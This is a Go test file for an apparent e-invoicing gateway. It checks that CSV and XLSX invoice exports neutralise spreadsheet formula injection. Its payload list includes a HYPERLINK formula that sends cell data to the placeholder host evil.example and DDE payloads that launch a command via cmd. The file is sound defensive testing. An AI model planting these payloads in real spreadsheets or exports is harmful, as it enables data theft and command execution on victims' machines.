package export_test

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/efactura-gateway/efactura/internal/export"
	"github.com/efactura-gateway/efactura/internal/invoice"
	"github.com/efactura-gateway/efactura/internal/store"
)

// formulaPayloads are cell values a spreadsheet would run as a formula or
// command (OWASP "CSV injection"): every trigger character, plus a tab and
// a carriage return that some spreadsheets strip before looking.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// hostileRows puts payload in every text field an invoice (and its lines)
// brings from the other party, and in the dates and amounts too (a
// document the parser kept as written).
func hostileRows(t *testing.T, payload string) []store.Invoice {
	t.Helper()
	lines, err := json.Marshal(invoice.Invoice{Lines: []invoice.Line{{
		ID: payload, Name: payload, Description: payload, SellerItemID: payload,
		Quantity: payload, UnitCode: payload, Price: payload, NetAmount: payload, VATCategory: payload, VATRate: payload,
	}}})
	require.NoError(t, err)
	return []store.Invoice{{
		ID: 7, ANAFID: payload, MessageType: payload, DocumentType: payload, InvoiceNumber: payload,
		IssueDate: payload, DueDate: payload, IssuerName: payload, SupplierCIF: payload,
		ReceiverName: payload, CIFBeneficiar: payload, Currency: payload,
		TotalAmount: payload, VATAmount: payload, SyncedAt: synced, ParsedJSON: lines,
	}}
}

// TestCSVFormulaInjection: in the CSV export (web and API use
// export.Write), no cell of an invoice or line row starts with = + - @,
// a tab or a carriage return, whichever field carries the payload; the
// value is kept, behind an apostrophe. Negative amounts stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	t.Parallel()
	for _, payload := range formulaPayloads {
		for _, opts := range []export.Options{{}, {Lines: true, Lang: "en"}} {
			var buf bytes.Buffer
			require.NoError(t, export.Write(&buf, "csv", hostileRows(t, payload), opts))
			recs := readCSV(t, buf.Bytes())
			require.Len(t, recs, 2)
			cells := 0
			for i, v := range recs[1] {
				if v == "" || v == "7" || strings.HasSuffix(v, "Z") && strings.HasPrefix(v, "2026-") {
					continue // the local id, the sync time
				}
				cells++
				require.False(t, strings.ContainsRune("=+-@\t\r", rune(v[0])),
					"column %q starts a formula: %q", recs[0][i], v)
				// The masked CIF/CNP columns keep only part of the value.
				if !strings.Contains(recs[0][i], "CIF") {
					require.Contains(t, []string{"'" + payload, "'" + strings.TrimSpace(payload)}, v,
						"column %q keeps the text (amounts trimmed) behind an apostrophe", recs[0][i])
				}
			}
			require.GreaterOrEqual(t, cells, len(export.Headers(opts))-2, "every column was tried")
		}
	}

	rows := sample(t)
	var buf bytes.Buffer
	require.NoError(t, export.Write(&buf, "csv", rows, export.Options{}))
	recs := readCSV(t, buf.Bytes())
	require.Equal(t, "-5.10", recs[2][13], "a negative amount is a number, not defused")
}

// TestXLSXFormulaInjection: in the XLSX export the same payloads are
// text cells (inline or shared strings), never formulas.
func TestXLSXFormulaInjection(t *testing.T) {
	t.Parallel()
	for _, payload := range formulaPayloads {
		var buf bytes.Buffer
		require.NoError(t, export.Write(&buf, "xlsx", hostileRows(t, payload), export.Options{Lines: true}))
		f, sheet := openXLSX(t, buf.Bytes())
		rows, err := f.GetRows(sheet)
		require.NoError(t, err)
		require.Len(t, rows, 2)
		for col := range rows[1] {
			name, err := excelize.CoordinatesToCellName(col+1, 2)
			require.NoError(t, err)
			formula, err := f.GetCellFormula(sheet, name)
			require.NoError(t, err)
			require.Empty(t, formula, "cell %s", name)
			typ, err := f.GetCellType(sheet, name)
			require.NoError(t, err)
			if rows[1][col] != "" && col != 0 && col != 14 {
				require.Contains(t, []excelize.CellType{excelize.CellTypeInlineString, excelize.CellTypeSharedString}, typ,
					"cell %s (%q) is text", name, rows[1][col])
			}
		}
	}
}
